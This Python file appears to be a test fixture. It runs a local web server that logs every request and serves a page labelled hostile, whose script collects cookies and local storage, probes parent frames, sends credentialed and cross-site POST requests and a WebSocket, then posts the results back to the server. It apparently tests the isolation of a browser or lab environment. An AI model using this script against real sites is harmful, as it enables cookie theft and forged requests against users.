"""A machine's web server, on this host: it says what it was asked, and serves a page that attacks its surroundings."""

from __future__ import annotations

import contextlib
import json
import threading
from collections.abc import Iterator
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
from typing import Any

HOSTILE = """<!doctype html><title>hostile</title><body><script>
const loot = {cookie: document.cookie};
const late = () => new Promise((_, no) => setTimeout(no, 3000));
const tried = async (name, look) => {
  try { loot[name] = await Promise.race([look(), late()]); } catch { loot[name] = "refused"; } };
(async () => {
  const q = new URLSearchParams(location.search);
  await tried("storage", async () => localStorage.labkit ?? "refused");
  await tried("parent", async () => parent.document.body.innerHTML);
  await tried("top", async () => top.location.href);
  await tried("labkit", async () => (await fetch(q.get("labkit"), {credentials: "include"})).status);
  await tried("other", async () => (await fetch(q.get("other"), {credentials: "include"})).status);
  await tried("change", async () => { await fetch(q.get("other"), {credentials: "include", method: "POST",
    mode: "no-cors", body: "x"}); return "sent"; });
  await tried("socket", () => new Promise((done) => { const s = new WebSocket(q.get("socket"));
    s.onopen = () => done("open"); s.onerror = () => done("refused"); }));
  await fetch("/loot", {method: "POST", body: JSON.stringify(loot)});
})();
</script>"""


class Site(ThreadingHTTPServer):
    """`asked` has (method, path, headers, body) of every request; `answers` are whole answers by path."""

    def __init__(self) -> None:
        super().__init__(("127.0.0.1", 0), _Answers)
        self.asked: list[tuple[str, str, dict[str, str], bytes]] = []
        self.answers: dict[str, tuple[int, list[tuple[str, str]], bytes]] = {
            "/start": (200, [("Content-Type", "text/html")], b"<title>start</title><h1>The machine's page</h1>"),
            "/hostile": (200, [("Content-Type", "text/html"), ("X-Frame-Options", "DENY")], HOSTILE.encode()),
        }

    @property
    def loot(self) -> dict[str, Any] | None:
        """What the hostile page has got hold of, once it has told."""
        return next((json.loads(body) for _, path, _, body in self.asked if path == "/loot"), None)


class _Answers(BaseHTTPRequestHandler):
    server: Site

    def _answer(self) -> None:
        body = self.rfile.read(int(self.headers.get("Content-Length") or 0))
        if self.headers.get("Transfer-Encoding") == "chunked":
            while size := int(self.rfile.readline(), 16):
                body += self.rfile.read(size)
                self.rfile.readline()
        path = self.path.partition("?")[0]
        self.server.asked.append((self.command, path, dict(self.headers.items()), body))
        status, headers, answer = self.server.answers.get(path, (200, [("Content-Type", "text/plain")], body or b"ok"))
        self.send_response(status)
        for name, value in [*headers, ("Content-Length", str(len(answer)))]:
            self.send_header(name, value)
        self.end_headers()
        if self.command != "HEAD":
            self.wfile.write(answer)

    do_GET = do_POST = do_PUT = do_HEAD = _answer

    def log_message(self, *args: object) -> None:
        """Say nothing."""


@contextlib.contextmanager
def running_site() -> Iterator[Site]:
    """A web server on a free port while the context lasts."""
    with Site() as site:
        thread = threading.Thread(target=site.serve_forever, kwargs={"poll_interval": 0.05})
        thread.start()
        try:
            yield site
        finally:
            site.shutdown()
            thread.join(5)
